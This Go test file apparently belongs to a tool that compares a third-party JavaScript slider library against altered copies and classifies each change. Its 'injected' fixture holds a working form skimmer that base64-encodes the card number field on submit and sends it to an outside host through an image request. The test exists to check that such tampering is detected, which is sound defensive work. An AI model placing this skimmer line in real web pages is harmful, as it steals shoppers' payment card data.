package script_test

import (
	"context"
	"testing"

	"tradecraft/intake/site/script"
)

const library = `/*! slider v1.2.3 */
(function(w){
 function start(el){ el.className = 'on'; return el.offsetWidth + 3; }
 function stop(el){ el.className = ''; }
 w.slider = {start:start, stop:stop, speed: 400};
})(window);`

func TestCompare(t *testing.T) {
	tests := map[string]struct {
		after, kind string
		line        int
	}{
		"same":          {library, script.ChangeNone, 0},
		"renamed":       {`(function(q){function a(b){b.className='on';return b.offsetWidth+3}function c(b){b.className=''}q.slider={start:a,stop:c,speed:400}})(window)`, script.ChangeNone, 0},
		"configuration": {`/*! slider v1.2.3 */ (function(w){ function start(el){ el.className = 'on'; return el.offsetWidth + 3; } function stop(el){ el.className = ''; } w.slider = {start:start, stop:stop, speed: 900}; })(window);`, script.ChangeConfiguration, 0},
		"version": {`/*! slider v1.3.0 */
(function(w){
 function start(el){ el.className = 'on'; return el.offsetWidth + 3; }
 function stop(el){ el.className = ''; el.blur(); w.focus(); }
 w.slider = {start:start, stop:stop, speed: 400};
})(window);`, script.ChangeVersion, 4},
		"injected": {`/*! slider v1.2.3 */
(function(w){
 function start(el){ el.className = 'on'; return el.offsetWidth + 3; }
 function stop(el){ el.className = ''; }
 w.slider = {start:start, stop:stop, speed: 400};
 document.addEventListener('submit',function(){new Image().src='https://stat-gather.top/i?'+btoa(document.querySelector('[name=cardnumber]').value)});
})(window);`, script.ChangeBehaviour, 6},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			c, _, err := script.Compare(context.Background(), []byte(library), []byte(tt.after), script.Options{})
			if err != nil {
				t.Fatal(err)
			}
			if c.Kind != tt.kind {
				t.Errorf("%s, want %s: %+v", c.Kind, tt.kind, c)
			}
			if tt.line > 0 && (len(c.Added) == 0 || c.Added[0].Line != tt.line) {
				t.Errorf("added %+v, want line %d", c.Added, tt.line)
			}
			if tt.kind == script.ChangeBehaviour && (c.New == nil || c.New.Verdict != script.Malicious || len(c.Destinations) == 0) {
				t.Errorf("what was put in: %+v", c.New)
			}
		})
	}
}
